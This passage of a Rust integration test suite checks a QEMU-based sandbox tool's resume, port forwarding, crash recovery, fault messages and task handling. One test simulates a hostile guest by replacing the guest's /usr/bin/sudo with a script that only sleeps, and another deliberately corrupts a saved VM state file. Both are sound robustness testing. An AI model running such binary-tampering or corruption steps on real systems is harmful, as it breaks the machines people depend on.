    fs::write(b.project.join("vibebox.toml"), config(1280)).unwrap();
    let out = common::approve(|| b.cmd());
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(state().is_file(), "a refused start dropped the state");
    let out = b.exec(&format!(
        "{marker}; echo boot4 > /dev/shm/vbx-marker; free -m | awk '/Mem/ {{print ($2 > 1024)}}'"
    ));
    assert_eq!(ok(&out), "none\n1\n", "{}\n{}", out.stderr, b.logs());
    assert!(!state().exists());
    assert_eq!(log_count(&b, "configuration changed"), 1, "{}", b.logs());

    // A damaged state (same length, bytes overwritten): QEMU refuses it, the VM
    // boots cold and the command runs.
    ok(&b.vibebox(&["stop"]));
    let len = fs::metadata(state()).unwrap().len();
    {
        use std::io::{Seek, SeekFrom, Write};
        let mut f = fs::OpenOptions::new().write(true).open(state()).unwrap();
        f.seek(SeekFrom::Start(len / 3)).unwrap();
        f.write_all(&vec![0xa5u8; 1 << 20]).unwrap();
    }
    let out = b.exec(&format!("{marker}; echo boot5 > /dev/shm/vbx-marker"));
    assert_eq!(ok(&out), "none\n", "{}", b.logs());
    assert_eq!(
        log_count(&b, "cannot resume the saved VM"),
        1,
        "{}",
        b.logs()
    );
    assert!(!state().exists());

    // A hostile guest: its sudo never answers the prepare step. The stop falls back
    // to the power-off within its bounds, saves nothing, and the next start is cold.
    ok(&b.exec(
        "sudo sh -c 'cp /usr/bin/sudo /usr/bin/sudo.real && printf \"#!/bin/sh\\nexec sleep 1000\\n\" > /usr/bin/sudo.fake && chmod 755 /usr/bin/sudo.fake && mv /usr/bin/sudo.fake /usr/bin/sudo'",
    ));
    let t = Instant::now();
    let out = b.vibebox(&["stop"]);
    assert!(ok(&out).contains("stopped session"), "{}", out.stderr);
    eprintln!("stop with a hanging guest: {:?}", t.elapsed());
    assert!(!state().exists());
    assert_eq!(log_count(&b, "cannot save the VM"), 1, "{}", b.logs());
    b.qemu_img_check();
    let out = b.exec(marker);
    assert_eq!(ok(&out), "none\n", "{}", b.logs());
}

/// A server on the host's loopback that sends `line` to each connection; it runs
/// as long as the test process (the listener is returned to read its port).
fn host_service(line: &'static str) -> std::net::TcpListener {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let serving = l.try_clone().unwrap();
    std::thread::spawn(move || {
        for c in serving.incoming() {
            let Ok(mut c) = c else { return };
            let _ = std::io::Write::write_all(&mut c, format!("{line}\n").as_bytes());
        }
    });
    l
}

/// Distinct loopback ports nobody uses right now (the kernel's picks).
fn free_ports<const N: usize>() -> [u16; N] {
    let held: Vec<std::net::TcpListener> = (0..N)
        .map(|_| std::net::TcpListener::bind("127.0.0.1:0").unwrap())
        .collect();
    std::array::from_fn(|i| held[i].local_addr().unwrap().port())
}

/// What `vibebox ports --json` says: guest port -> (host port, how).
/// Guest port -> (host port, how, via) from `vibebox ports --json`.
fn published(b: &Box) -> std::collections::BTreeMap<u16, (u16, String, String)> {
    let out = b.vibebox(&["ports", "--json"]);
    let list: Vec<serde_json::Value> = serde_json::from_str(ok(&out)).unwrap();
    list.iter()
        .map(|p| {
            (
                p["guest"].as_u64().unwrap() as u16,
                (
                    p["host"].as_u64().unwrap() as u16,
                    p["how"].as_str().unwrap().to_string(),
                    p["via"].as_str().unwrap().to_string(),
                ),
            )
        })
        .collect()
}

/// Waits until the host port published for `guest` satisfies `pred` (None: not
/// published); returns it.
fn wait_published(b: &Box, guest: u16, pred: impl Fn(Option<u16>) -> bool) -> Option<u16> {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let now = published(b).get(&guest).map(|p| p.0);
        if pred(now) {
            return now;
        }
        assert!(
            Instant::now() < deadline,
            "VM:{guest} published as {now:?}, never as wanted:\n{}",
            b.logs()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// 16 MiB each way through a port the gateway relays, compared byte for byte: a
/// guest server echoes everything it read once the host closes its side.
fn relayed_transfers_are_intact(b: &Box) {
    use std::io::{Read, Write};
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    ok(&b.exec(&format!(
        "setsid nohup perl -MIO::Socket::INET -e '$SIG{{PIPE}} = q(IGNORE); $s = IO::Socket::INET->new(LocalAddr => \"0.0.0.0\", LocalPort => {port}, Listen => 16, ReuseAddr => 1) or die; while ($c = $s->accept) {{ local $/; $d = <$c>; print $c $d; close $c }}' > /dev/null 2>&1 < /dev/null & echo $! > /tmp/echo.pid"
    )));
    wait_published(b, port, |p| p == Some(port));
    assert_eq!(published(b)[&port].2, "gateway");
    let data: Vec<u8> = (0..16u32 << 20)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let mut c = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    c.set_read_timeout(Some(Duration::from_secs(120))).unwrap();
    let writer = {
        let mut c = c.try_clone().unwrap();
        let data = data.clone();
        std::thread::spawn(move || {
            c.write_all(&data).unwrap();
            c.shutdown(std::net::Shutdown::Write).unwrap();
        })
    };
    let mut back = Vec::new();
    c.read_to_end(&mut back).unwrap();
    writer.join().unwrap();
    assert_eq!(back.len(), data.len(), "bytes lost through the relay");
    assert!(back == data, "bytes changed through the relay");
    ok(&b.exec("kill $(cat /tmp/echo.pid)"));
}

/// The line a guest server (below) sends each connection, read on the host.
fn hello(port: u16) -> std::io::Result<String> {
    use std::io::Read;
    let mut c = std::net::TcpStream::connect(("127.0.0.1", port))?;
    c.set_read_timeout(Some(Duration::from_secs(30)))?;
    let mut got = String::new();
    c.read_to_string(&mut got)?;
    Ok(got)
}

/// Guest listeners appear on the host's loopback (a busy port moves to the next
/// one), go when they close, and carry many connections at once; a fixed mapping
/// reaches a listener that comes later. Listeners on every address are relayed by
/// the gateway, loopback-only ones through ssh.
fn ports_are_published_both_ways(b: &Box, [fixed_host, fixed_guest, auto, moved_to]: [u16; 4]) {
    // A client holds the VM up meanwhile (its auto_shutdown_ms is 2 s).
    let mut holder = b.spawn_exec("exec sleep 901");
    b.wait_status(60, |s, n| s == "running" && n >= 1);
    // A server bound to `addr` in the guest, in perl (in every Debian), detached
    // from the exec so it outlives it.
    let serve_on = |addr: &str, port: u16, tag: &str| {
        ok(&b.exec(&format!(
            "setsid nohup perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalAddr => \"{addr}\", LocalPort => {port}, Listen => 256, ReuseAddr => 1) or die; while ($c = $s->accept) {{ print $c \"{tag}\\n\"; close $c }}' > /tmp/serve-{port}.log 2>&1 < /dev/null & echo $! > /tmp/serve-{port}.pid"
        )));
    };
    // Bound to the guest's 127.0.0.1 only (as dev servers are by default): only
    // the guest's sshd reaches it.
    serve_on("127.0.0.1", auto, "hello from the VM");
    wait_published(b, auto, |p| p == Some(auto));
    assert_eq!(hello(auto).unwrap(), "hello from the VM\n");
    assert_eq!(published(b)[&auto].1, "auto");
    assert_eq!(published(b)[&auto].2, "ssh");

    // The host's own port is taken: the next free one, said in the log. This one
    // listens on every address: the gateway relays it.
    let busy = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let busy_port = busy.local_addr().unwrap().port();
    serve_on("0.0.0.0", busy_port, "moved");
    let moved = wait_published(b, busy_port, |p| p.is_some()).unwrap();
    assert_ne!(moved, busy_port);
    assert_eq!(hello(moved).unwrap(), "moved\n");
    assert_eq!(published(b)[&busy_port].2, "gateway");
    let table = ok(&b.vibebox(&["ports"])).to_string();
    assert!(
        table.contains("VIA") && table.contains("gateway") && table.contains("ssh"),
        "{table}"
    );
    let log = fs::read_to_string(b.session_dir().join("logs/supervisor.log")).unwrap();
    assert!(
        log.contains(&format!(
            "localhost:{moved} -> VM:{busy_port} (localhost:{busy_port} is in use on this machine)"
        )),
        "{log}"
    );
    drop(busy);

    // 200 connections at once all complete, through the gateway's relay.
    let handles: Vec<_> = (0..200)
        .map(|_| std::thread::spawn(move || hello(moved)))
        .collect();
    for h in handles {
        assert_eq!(h.join().unwrap().unwrap(), "moved\n");
    }
    relayed_transfers_are_intact(b);

    // The fixed mapping is there before anything listens, and reaches the listener
    // once it comes.
    assert_eq!(
        published(b).get(&fixed_guest),
        Some(&(fixed_host, "config".to_string(), "ssh".to_string()))
    );
    // Its listener, on every address, moves it to the gateway (the same host port).
    serve_on("0.0.0.0", fixed_guest, "fixed");
    let deadline = Instant::now() + Duration::from_secs(60);
    while hello(fixed_host).map(|h| h != "fixed\n").unwrap_or(true) {
        if Instant::now() > deadline {
            let guest = b.exec("ss -ltnp; cat /tmp/serve-*.log");
            panic!(
                "localhost:{fixed_host} never reached VM:{fixed_guest}: {:?}\nguest:\n{}\n{}",
                hello(fixed_host),
                guest.stdout,
                b.logs()
            );
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    let deadline = Instant::now() + Duration::from_secs(60);
    while published(b)[&fixed_guest].2 != "gateway" {
        assert!(
            Instant::now() < deadline,
            "VM:{fixed_guest}: {:?}",
            published(b)
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_eq!(published(b)[&fixed_guest].0, fixed_host);
    assert_eq!(hello(fixed_host).unwrap(), "fixed\n");

    // While the VM runs, a mapping moves to another host port, then goes.
    let out = b.vibebox(&["ports", "add", &format!("{moved_to}:{fixed_guest}")]);
    assert_eq!(
        ok(&out),
        format!("localhost:{moved_to} -> VM:{fixed_guest}\n")
    );
    assert_eq!(hello(moved_to).unwrap(), "fixed\n");
    assert!(
        hello(fixed_host).is_err(),
        "the old host port still answers"
    );
    let out = b.vibebox(&["ports", "rm", &fixed_guest.to_string()]);
    assert!(ok(&out).contains("no longer published"), "{}", out.stdout);
    assert!(
        hello(moved_to).is_err(),
        "localhost:{moved_to} still answers"
    );
    assert!(!published(b).contains_key(&fixed_guest));
    let out = b.vibebox(&["ports", "add", "example.com:80:80"]);
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("not an IPv4 address"), "{}", out.stderr);

    // A listener that closes is unpublished, and its host port is free again.
    ok(&b.exec(&format!("kill $(cat /tmp/serve-{auto}.pid)")));
    wait_published(b, auto, |p| p.is_none());
    assert!(hello(auto).is_err(), "localhost:{auto} still answers");
    ok(&b.exec(&format!(
        "kill $(cat /tmp/serve-{busy_port}.pid) $(cat /tmp/serve-{fixed_guest}.pid)"
    )));
    // Its guest command ends, so nothing in the guest keeps the VM up after it.
    ok(&b.exec("pkill -f 'sleep 90[1]'; true"));
    let _ = holder.wait();
}

/// A client attaching while the idle shutdown is being decided (the window widened
/// by a test-only delay after the login check) keeps its VM: the decision sees it,
/// so it is never told "ready" by a VM that then powers off under it.
#[test]
fn an_attach_raced_against_the_idle_shutdown_keeps_its_vm() {
    let Some(images) = common::test_images() else {
        return;
    };
    let _vm = vm_lock();
    let mut b = Box::new(
        &images,
        "idlerace",
        "[supervisor]\nauto_shutdown_ms = 1000\n",
    );
    b.env_vars
        .push(("VIBEBOX_TEST_IDLE_DECIDE_DELAY_MS".into(), "15000".into()));
    ok(&b.exec("true"));
    let log = b.session_dir().join("logs/supervisor.log");
    let deadline = Instant::now() + Duration::from_secs(120);
    while !fs::read_to_string(&log)
        .unwrap_or_default()
        .contains("test delay: deciding the idle shutdown")
    {
        assert!(
            Instant::now() < deadline,
            "the idle shutdown never got to its decision:\n{}",
            b.logs()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    // Attached inside the window, and still running when the decision comes.
    let out = b.exec("sleep 25; echo survived");
    assert_eq!(ok(&out), "survived\n");
}

/// `vibebox stop` during a boot cancels it within seconds (not at the ready
/// timeout): no QEMU is left, the client that was waiting is told, and the disk
/// is intact.
#[test]
fn a_stop_during_the_boot_cancels_it() {
    let Some(images) = common::test_images() else {
        return;
    };
    let _vm = vm_lock();
    let b = Box::new(&images, "stopboot", "");
    ok(&b.vibebox(&["init"]));
    let client = b.spawn_exec("true");
    let instance = {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            if let Ok(text) = fs::read_to_string(b.session_dir().join("instance.toml"))
                && let Ok(t) = toml::from_str::<toml::Table>(&text)
            {
                break t;
            }
            assert!(
                Instant::now() < deadline,
                "QEMU never started:\n{}",
                b.logs()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    let qemu = instance["qemu_pid"].as_integer().unwrap();
    assert_eq!(b.status().0, "booting");
    let started = Instant::now();
    let out = b.vibebox(&["stop"]);
    let took = started.elapsed();
    assert!(ok(&out).contains("stopped session"), "{}", out.stdout);
    assert!(took < Duration::from_secs(15), "stop took {took:?}");
    assert!(!alive(qemu), "QEMU left running");
    let o = client.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        err.contains("stopped (`vibebox stop`) before it was ready"),
        "{err}"
    );
    assert_eq!(b.status(), ("stopped".to_string(), 0));
    b.qemu_img_check();
    eprintln!("stop during the boot took {took:?}");
}

/// kill -9 of QEMU (attached clients are told; the next start boots again with an
/// intact disk) and of the supervisor (QEMU does not outlive it; the next start
/// recovers), then `delete` of a running session.
#[test]
fn crashes_are_recovered_and_delete_stops_a_running_session() {
    let Some(images) = common::test_images() else {
        return;
    };
    let _vm = vm_lock();
    // A read-only share over 9p (the lifecycle test covers virtiofs where CI has it).
    let ro = tempfile::Builder::new()
        .prefix("vbx-ro9p-")
        .tempdir()
        .unwrap();
    let mut b = Box::new(
        &images,
        "crashy",
        &format!(
            "[box]\nmounts = [\"{}:/mnt/ro:ro\"]\nvolumes = [\".venv\"]\n",
            ro.path().display()
        ),
    );
    // No parent-death signal, as on macOS: only the watchdog ends QEMU when its
    // supervisor is killed.
    b.env_vars
        .push(("VIBEBOX_TEST_NO_PDEATHSIG".into(), "1".into()));
    ok(&b.exec("echo before > /var/tmp/mark && echo v > .venv/py && sync"));
    assert_eq!(b.fstype("\"$PWD\""), "9p");
    assert_eq!(b.fstype("/mnt/ro"), "9p");
    // A volume over a 9p project is on the VM's disk too.
    assert_ne!(b.fstype("\"$PWD/.venv\""), "9p");
    assert_eq!(fs::read_dir(b.project.join(".venv")).unwrap().count(), 0);
    share_is_coherent(&b);
    guest_cannot_own_host_files(&b);
    // git in the guest ignores inode numbers in repositories on 9p shares only
    // (QEMU's remapped numbers would make every entry of the host's index look
    // changed, and git re-read the tree through 9p).
    let out = b.exec(
        "git init -q gitstat && git -C gitstat config core.checkStat; \
         git init -q /var/tmp/gitstat && git -C /var/tmp/gitstat config core.checkStat; echo end",
    );
    assert_eq!(ok(&out).trim(), "minimal\nend");
    fs::remove_dir_all(b.project.join("gitstat")).unwrap();
    let out = b.exec("sudo touch /mnt/ro/nope 2>&1 || touch /mnt/ro/nope");
    assert_ne!(out.code, 0, "{}", out.stdout);
    assert!(!ro.path().join("nope").exists());

    // QEMU killed under an attached client.
    let client = b.spawn_exec("sleep 120");
    b.wait_status(60, |s, n| s == "running" && n == 1);
    let qemu_pid = b.instance()["qemu_pid"].as_integer().unwrap();
    kill9(qemu_pid as i32);
    let o = client.wait_with_output().unwrap();
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("QEMU exited unexpectedly"),
        "client was not told: {err}"
    );
    b.wait_status(30, |s, _| s == "stopped");
    b.qemu_img_check();
    let out = b.exec("cat /var/tmp/mark");
    assert_eq!(ok(&out), "before\n");

    // Supervisor killed: its QEMU goes too (no owner-less VM, without PDEATHSIG), and
    // the next start recovers the session.
    let inst = b.instance();
    let sup = inst["supervisor_pid"].as_integer().unwrap();
    let qemu = inst["qemu_pid"].as_integer().unwrap();
    // QEMU's identity is recorded, so nothing signals a process reusing its pid.
    let recorded = vibebox::store::procid::ProcId {
        pid: qemu as u32,
        start: inst["qemu_start"].as_integer().unwrap() as u64,
        exe: inst["qemu_exe"].as_str().unwrap().to_string(),
    };
    assert_eq!(
        vibebox::store::procid::ProcId::of(qemu as u32),
        Some(recorded)
    );
    kill9(sup as i32);
    let deadline = Instant::now() + Duration::from_secs(30);
    while alive(qemu) {
        assert!(Instant::now() < deadline, "QEMU outlived its supervisor");
        std::thread::sleep(Duration::from_millis(200));
    }
    // Its watchdog ended it (there was no parent-death signal to do it).
    let log = fs::read_to_string(b.session_dir().join("logs/supervisor.log")).unwrap();
    assert!(
        log.contains(&format!("watchdog: process {sup} that started {qemu} ")),
        "{log}"
    );
    let out = b.exec("cat /var/tmp/mark");
    assert_eq!(ok(&out), "before\n");

    // Delete while running: stopped first, then everything removed.
    let qemu = b.instance()["qemu_pid"].as_integer().unwrap();
    let id = b.id();
    let state_dir = b.session_dir();
    let out = b.vibebox(&["delete", "-y", &id]);
    ok(&out);
    assert!(!alive(qemu), "delete left QEMU running");
    assert!(!state_dir.exists());
    assert!(!b.project.join(".vibebox").exists());
}

/// Two `vibebox` started at the same instant in a new project get one VM.
#[test]
fn simultaneous_first_starts_share_one_vm() {
    let Some(images) = common::test_images() else {
        return;
    };
    let _vm = vm_lock();
    let b = Box::new(&images, "twins", "");
    let script = "cat /proc/sys/kernel/random/boot_id";
    let c1 = b.spawn_exec(script);
    let c2 = b.spawn_exec(script);
    let o1 = c1.wait_with_output().unwrap();
    let o2 = c2.wait_with_output().unwrap();
    assert!(
        o1.status.success(),
        "{}",
        String::from_utf8_lossy(&o1.stderr)
    );
    assert!(
        o2.status.success(),
        "{}",
        String::from_utf8_lossy(&o2.stderr)
    );
    let boot1 = String::from_utf8_lossy(&o1.stdout).trim().to_string();
    assert_eq!(boot1.len(), 36);
    assert_eq!(boot1, String::from_utf8_lossy(&o2.stdout).trim());
}

/// Faults that must end in one clear line: a guest that never signals ready (bounded
/// wait, console log named), QEMU missing, no image, a mount whose host path
/// vanished. Nothing is left half-made.
#[test]
fn faults_give_one_clear_line() {
    let Some(images) = common::test_images() else {
        return;
    };
    let _vm = vm_lock();

    // QEMU missing.
    let b = Box::new(&images, "noqemu", "");
    let mut c = b.cmd();
    c.env("VIBEBOX_QEMU", "/nonexistent/qemu-system-x86_64")
        .args(["exec", "--", "true"]);
    let out = run(c);
    assert_eq!(out.code, 1);
    assert!(out.stderr.contains("cannot start QEMU"), "{}", out.stderr);
    assert!(
        out.stderr.contains("supervisor.log") || out.stderr.contains("see "),
        "{}",
        out.stderr
    );

    // QEMU too old: refused before anything is started, saying what is needed.
    let b = Box::new(&images, "oldqemu", "");
    let fake = b.env.tmp.path().join("qemu-system-old");
    fs::write(
        &fake,
        "#!/bin/sh\necho 'QEMU emulator version 6.2.0 (Debian 1:6.2+dfsg-2ubuntu6)'\n",
    )
    .unwrap();
    fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let mut c = b.cmd();
    c.env("VIBEBOX_QEMU", &fake).args(["exec", "--", "true"]);
    let out = run(c);
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr.contains("QEMU 6.2.0") && out.stderr.contains("too old: vibebox needs 7.2"),
        "{}",
        out.stderr
    );
    assert!(!b.session_dir().join("disk.qcow2").exists());

    // The disk holding ~/.vibebox nearly full (a 64 MiB tmpfs; needs root to
    // mount, which CI has): refused before the overlay is made.
    if nix::unistd::geteuid().is_root() {
        let env = Env::new();
        let mounted = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=64m", "tmpfs"])
            .arg(env.vibebox_home())
            .status()
            .unwrap();
        assert!(mounted.success());
        struct Unmount(PathBuf);
        impl Drop for Unmount {
            fn drop(&mut self) {
                let _ = Command::new("umount").arg("-l").arg(&self.0).status();
            }
        }
        let _unmount = Unmount(env.vibebox_home());
        env.link_images(&images);
        let p = env.project("full");
        let mut c = env.cmd(&p);
        c.args(["exec", "--", "true"]);
        let out = run(c);
        assert_eq!(out.code, 1, "{}", out.stderr);
        assert!(
            out.stderr.contains("not enough free space") && out.stderr.contains("MiB free"),
            "{}",
            out.stderr
        );
        let id = common::session_file_id(&p);
        let sdir = env.vibebox_home().join("sessions").join(id);
        assert!(!sdir.join("disk.qcow2").exists());
        assert!(!sdir.join("disk.qcow2.tmp").exists());
    }

    // No such image.
    let b = Box::new(&images, "noimage", "[box]\nimage = \"debian-99\"\n");
    let out = b.exec("true");
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("no base image named \"debian-99\""),
        "{}",
        out.stderr
    );
    assert!(!b.session_dir().join("disk.qcow2").exists());

    // A mount whose host path vanished.
    let gone = b.env.tmp.path().join("vanishing");
    fs::create_dir_all(&gone).unwrap();
    let b = Box::new(
        &images,
        "vanished",
        &format!("[box]\nmounts = [\"{}:/mnt/v\"]\n", gone.display()),
    );
    fs::remove_dir(&gone).unwrap();
    let out = b.exec("true");
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr.contains(&gone.display().to_string()) && out.stderr.contains("does not exist"),
        "{}",
        out.stderr
    );

    // A guest that never signals ready: the ready unit is masked on the kernel
    // command line of a copy of the image.
    let env = Env::new();
    let img_dir = env.vibebox_home().join("images");
    fs::create_dir_all(&img_dir).unwrap();
    // The image a boot here would take (the images directory holds other
    // architectures' and older recipes' images too).
    let src = vibebox::image::store::Store::new(&vibebox::paths::Home::from_dir(
        images.parent().unwrap().to_path_buf(),
    ))
    .find("default", std::env::consts::ARCH)
    .unwrap()
    .expect("an image of this host's architecture in VIBEBOX_TEST_IMAGES")
    .dir;
    let dst = img_dir.join("debian-13-x86_64-deadbeef0000");
    fs::create_dir_all(&dst).unwrap();
    for f in ["disk.qcow2", "vmlinuz", "initrd.img"] {
        std::os::unix::fs::symlink(src.join(f), dst.join(f)).unwrap();
    }
    let manifest = fs::read_to_string(src.join("image.toml")).unwrap();
    let mut m: toml::Table = toml::from_str(&manifest).unwrap();
    let cmdline = format!(
        "{} systemd.mask=vibebox-ready.service",
        m["kernel_cmdline"].as_str().unwrap()
    );
    m.insert("kernel_cmdline".into(), toml::Value::String(cmdline));
    m.insert(
        "arch".into(),
        toml::Value::String(std::env::consts::ARCH.into()),
    );
    fs::write(dst.join("image.toml"), toml::to_string(&m).unwrap()).unwrap();
    let p = env.project("silent");
    let mut c = env.cmd(&p);
    c.env("VIBEBOX_READY_TIMEOUT_MS", "45000")
        .args(["exec", "--", "true"]);
    let started = Instant::now();
    let out = run(c);
    assert_eq!(out.code, 1, "{}", out.stderr);
    assert!(
        out.stderr.contains("did not signal ready"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("console.log"), "{}", out.stderr);
    assert!(started.elapsed() < Duration::from_secs(120));
}

/// The interactive shell, driven through tmux: it starts in the project, `:explain`
/// prints the host's explain text, `:new` declined keeps the session, `:new`
/// confirmed replaces it, `:exit` leaves with status 0.
#[test]
fn interactive_shell_and_vibebox_commands() {
    let Some(images) = common::test_images() else {
        return;
    };
    if which::which("tmux").is_err() {
        assert!(std::env::var_os("CI").is_none(), "CI must install tmux");
        return;
    }
    let _vm = vm_lock();
    let b = Box::new(&images, "interactive", "");
    // A config the host user has not approved yet: the first start asks.
    let extra = b.env.tmp.path().join("extra");
    fs::create_dir_all(&extra).unwrap();
    fs::write(
        b.project.join("vibebox.toml"),
        format!("[box]\nmounts = [\"{}:/mnt/extra:ro\"]\n", extra.display()),
    )
    .unwrap();
    let bin = env!("CARGO_BIN_EXE_vibebox");
    let term = Term::start(
        &b,
        &format!(
            "cd '{}' && export VIBEBOX_HOME='{}' HOME='{}'; '{bin}'; echo VIBEBOX-EXIT=$?; '{bin}'; echo VIBEBOX-EXIT=$?; sleep 600",
            b.project.display(),
            b.env.vibebox_home().display(),
            b.env.home().display()
        ),
    );
    let wait_n = |needle: &str, times: usize, secs: u64| term.wait_n(&b, needle, times, secs);
    let wait_for = |needle: &str, secs: u64| wait_n(needle, 1, secs);
    let keys = |k: &str| term.keys(k);
    // Declined: nothing boots.
    let s = wait_for("Start the VM with this? [y/N]", 60);
    assert!(
        s.contains(&format!("+ mount ro {} -> /mnt/extra", extra.display())),
        "{s}"
    );
    keys("n");
    wait_for("VIBEBOX-EXIT=1", 30);
    assert_eq!(b.status().0, "stopped");
    // Approved: it boots, with the mount.
    wait_n("Start the VM with this? [y/N]", 2, 60);
    keys("y");
    keys("echo PWD-IS-$(pwd)");
    wait_for(&format!("PWD-IS-{}", b.project.display()), 240);
    let id = b.id();
    keys(":explain");
    wait_for(&format!("(session {id})"), 30);
    wait_for("Storage (relative to the project)", 10);

    // A dev server started in the shell: the terminal says where the host sees it.
    let [port] = free_ports();
    keys(&format!(
        "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalPort => {port}, Listen => 1, ReuseAddr => 1) or die; sleep 600' &"
    ));
    wait_for(&format!("vibebox: localhost:{port} -> VM:{port}"), 60);
    keys("kill %1");
    wait_for(&format!("vibebox: localhost:{port} closed"), 60);

    keys(":new");
    wait_n("[y/N]", 3, 30);
    keys("n");
    wait_for("kept session", 30);
    keys("echo STILL-$(hostname)");
    wait_for("STILL-vibebox-interactive", 60);

    keys(":new");
    let s = wait_n("[y/N]", 4, 30);
    assert!(s.contains("no other terminal is attached"), "{s}");
    keys("y");
    wait_for("new session", 120);
    // Computed output: typed text is echoed by the host terminal while the new VM
    // boots, so only the shell's answer proves it is up.
    keys("echo AFTER-$((40+2))");
    wait_for("AFTER-42", 240);
    let new_id = b.id();
    assert_ne!(new_id, id, "confirmed :new must make a new session");
    assert!(!b.env.vibebox_home().join("sessions").join(&id).exists());

    keys(":exit");
    wait_for("VIBEBOX-EXIT=0", 30);
    drop(term);
}

// ---- tasks: terminal sessions in the VM that outlive every client ----

/// The pids of processes whose command line starts with `argv` (as given).
fn pids_of(argv: &[&str]) -> Vec<i32> {
    fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| {
            let e = e.ok()?;
            let pid: i32 = e.file_name().to_str()?.parse().ok()?;
            let cmdline = fs::read(e.path().join("cmdline")).ok()?;
            let words: Vec<&[u8]> = cmdline.split(|b| *b == 0).collect();
            (words.len() >= argv.len() && argv.iter().zip(&words).all(|(a, w)| a.as_bytes() == *w))
                .then_some(pid)
        })
        .collect()
}

/// The highest `tick-N` in `text`.
fn last_tick(text: &str) -> Option<u64> {
    text.split("tick-")
        .skip(1)
        .filter_map(|r| {
            r.chars()
                .take_while(char::is_ascii_digit)
                .collect::<String>()
                .parse()
                .ok()
        })
        .max()
}

/// A task printing a counter survives `kill -9` of its attached client, of that
/// client's ssh and of the ssh control master; attaching again shows the output
/// that went on meanwhile; two terminals attached to one task both see it; logs
/// come without terminal control sequences; `wait` gives the exit status; `stop`
/// refuses without `-y` while a task runs; `vibebox` names the running tasks; and
/// the idle shutdown waits for running tasks, then comes once they end.
#[test]
fn tasks_outlive_their_clients_and_keep_the_vm_up() {
    let Some(images) = common::test_images() else {
        return;
    };
    if which::which("tmux").is_err() {
        assert!(std::env::var_os("CI").is_none(), "CI must install tmux");
        return;
    }
    let _vm = vm_lock();
    let mut b = Box::new(&images, "tasks", "[supervisor]\nauto_shutdown_ms = 2000\n");
    // The supervisor's idle checks, in its log.
    b.env_vars.push((
        "VIBEBOX_LOG".into(),
        "vibebox::supervisor::daemon=info".into(),
    ));
    let counter = "i=0; while [ ! -e /tmp/stop-counter ]; do printf '\\033[1;31mtick-%d\\033]0;title\\007\\n' $i; i=$((i+1)); sleep 1; done";
    let out = b.vibebox(&["launch", "ctr", "--", "sh", "-c", counter]);
    assert!(ok(&out).contains("vibebox attach ctr"), "{}", out.stdout);
    // Launching a running task's name again is refused.
    let again = b.vibebox(&["launch", "ctr", "--", "true"]);
    assert_eq!(again.code, 1, "{}", again.stderr);
    assert!(again.stderr.contains("already running"), "{}", again.stderr);
    assert_eq!(b.vibebox(&["launch", "a.b"]).code, 2);

    // Terminals on the host: tmux sessions running `vibebox attach`.
    let socket = b.env.tmp.path().join("tmux.sock");
    let tmux = |args: &[&str]| {
        Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args(args)
            .output()
            .unwrap()
    };
    let bin = env!("CARGO_BIN_EXE_vibebox");
    let term_env = |t: &str, env: &str, args: &str| {
        let shell = format!(
            "cd '{}' && export VIBEBOX_HOME='{}' HOME='{}' VIBEBOX_VIRTIOFSD=off {env}; '{bin}' {args}; echo {t}-EXIT=$?; sleep 600",
            b.project.display(),
            b.env.vibebox_home().display(),
            b.env.home().display()
        );
        let o = tmux(&[
            "new-session",
            "-d",
            "-s",
            t,
            "-x",
            "120",
            "-y",
            "30",
            &shell,
        ]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    };
    let term = |t: &str, args: &str| term_env(t, "", args);
    let screen = |t: &str| {
        String::from_utf8_lossy(&tmux(&["capture-pane", "-p", "-S", "-100", "-t", t]).stdout)
            .into_owned()
    };
    let wait_screen = |t: &str, what: &str, pred: &dyn Fn(&str) -> bool| {
        let deadline = Instant::now() + Duration::from_secs(120);
        loop {
            let s = screen(t);
            if pred(&s) {
                return s;
            }
            assert!(
                Instant::now() < deadline,
                "terminal {t} never showed {what}; screen:\n{s}\nlogs:\n{}",
                b.logs()
            );
            std::thread::sleep(Duration::from_millis(250));
        }
    };
    let logs_tick = || last_tick(ok(&b.vibebox(&["logs", "ctr"]))).unwrap_or(0);
    let sd = b.session_dir();
    let config = sd.join("ssh/config");
    let config = config.to_str().unwrap();
    // The fast attach's daemon (started by `launch`) listening in the guest.
    let guest_port = format!("{:04X}", vibebox::supervisor::ports::GUEST_ATTACH_PORT);
    let daemon_up = || {
        let deadline = Instant::now() + Duration::from_secs(120);
        while b
            .exec(&format!(
                "grep -q ':{guest_port} 00000000:0000 0A' /proc/net/tcp"
            ))
            .code
            != 0
        {
            assert!(
                Instant::now() < deadline,
                "the attach daemon never listened"
            );
            std::thread::sleep(Duration::from_millis(500));
        }
    };
    // Which way the attaches run now: fast (`ssh -W` to the daemon, no sshd
    // session in the guest) and `ssh -t` (the fallback).
